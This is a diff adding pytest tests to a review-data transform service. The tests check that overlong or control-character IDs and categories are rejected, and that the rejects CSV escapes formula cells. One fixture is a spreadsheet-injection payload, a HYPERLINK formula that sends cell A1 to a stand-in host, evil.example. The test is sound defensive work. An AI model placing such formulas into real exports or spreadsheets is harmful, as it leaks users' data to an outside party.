@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 
 import pyarrow as pa
 import pytest
 
-from services.transformer.transform import clean_text, transform
+from services.transformer.transform import clean_text, rejects_csv, transform
 from shared.pseudonym import pseudonym
 from shared.schemas import CLEANED, RAW
 
@@ -101,3 +103,37 @@ def test_no_buyer_id_goes_downstream():
     text = result.cleaned.to_pandas().to_csv() + result.rejects.to_csv()
     assert "A1BUYER" not in text and "A2BUYER" not in text
     assert result.cleaned.column("buyer_pseudonym")[0].as_py() == pseudonym("A1BUYER", b"test-key")
+
+
+def test_ids_and_categories_from_the_source_are_held_to_the_loaders_limits():
+    result = run(
+        [
+            raw_row(1, product_id="P" * 64, buyer_id="B" * 64, product_category="C" * 200),
+            raw_row(2, product_id="P" * 65),
+            raw_row(3, product_id="B000\x00NUL"),
+            raw_row(4, buyer_id="A4\tBUYER"),
+            raw_row(5, buyer_id="B" * 65),
+            raw_row(6, product_category="Music\x1b"),
+            raw_row(7, product_category="C" * 201),
+        ]
+    )
+    reasons = dict(zip(result.rejects["review_id"], result.rejects["reason"], strict=True))
+    assert reasons == {
+        2: "product id is 65 characters, over the limit of 64",
+        3: "product id holds U+0000, a control character",
+        4: "buyer id holds U+0009, a control character",
+        5: "buyer id is 65 characters, over the limit of 64",
+        6: "category holds U+001B, a control character",
+        7: "category is 201 characters, over the limit of 200",
+    }
+    assert result.cleaned.column("review_id").to_pylist() == [1]
+
+
+def test_rejects_csv_cells_cannot_run_as_formulas():
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    result = run([raw_row(1, rating=0, title="-1 star", text=formula), raw_row(2, rating=9, text="@SUM(A1)")])
+    rows = list(csv.DictReader(io.StringIO(rejects_csv(result.rejects).decode())))
+    assert [(r["text"], r["title"], r["rating"]) for r in rows] == [
+        ("'" + formula, "'-1 star", "0"),
+        ("'@SUM(A1)", "Nice", "9"),
+    ]
